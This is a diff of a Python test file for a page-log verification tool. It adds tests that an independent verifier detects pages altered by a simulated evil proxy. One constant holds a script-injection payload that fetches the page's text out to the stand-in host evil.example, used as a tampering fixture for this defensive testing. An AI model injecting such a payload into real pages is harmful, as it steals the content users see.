@@ -1,15 +1,18 @@
 """A host, or whoever stands before it, that sends phones other pages than are logged is named by `sotto log verify`."""
 
+import importlib.util
 from collections.abc import Iterator
 from dataclasses import dataclass, replace
 
 import brotli
 import pytest
 from click.testing import CliRunner
+from forged.served import compared
 from forged.witnesses import witness_program
 from hosts.applications import respond_app
 from hosts.evil_proxy import Change, EvilProxy, Reply, evil
 from hosts.threaded_server import answering
+from paths import ROOT
 from studies.plain_study import STUDY, fresh
 from werkzeug.serving import make_server
 
@@ -21,6 +24,9 @@ from survey.respond_app.settings import RespondSettings
 from survey.settings import Settings
 from survey.wave.manifest import Manifest
 
+SPEC = importlib.util.spec_from_file_location("independent_verifier", ROOT / "verifier" / "verify.py")
+VERIFY = importlib.util.module_from_spec(SPEC)
+SPEC.loader.exec_module(VERIFY)
 EVIL = b"<script>fetch('//evil.example/'+document.body.innerText)</script>"
 CSP = "Content-Security-Policy"
 MAIN = f"/static/{load_assets().main}"
@@ -154,3 +160,17 @@ def test_a_witness_signs_nothing_where_a_page_is_other_than_logged(proxy, one, m
     with pytest.raises(WITNESS.Refused):
         witnessed(proxy[1], tmp_path)
     assert not (tmp_path / "memory").exists()
+
+
+def test_the_independent_verifier_names_nothing_where_nothing_is_changed(proxy):
+    """Control: of the same host verifier/verify.py compares every page, and finds each as logged."""
+    assert ([], True) == compared(VERIFY, proxy[1])
+
+
+@pytest.mark.parametrize("one", EVILS, ids=lambda one: one.name)
+def test_the_independent_verifier_names_the_same_changes(proxy, one, monkeypatch):
+    """Each change is named by verifier/verify.py too, which shares no code."""
+    monkeypatch.setattr(proxy[0], "change", one.change)
+    faults, was_compared = compared(VERIFY, proxy[1])
+    assert was_compared
+    assert faults
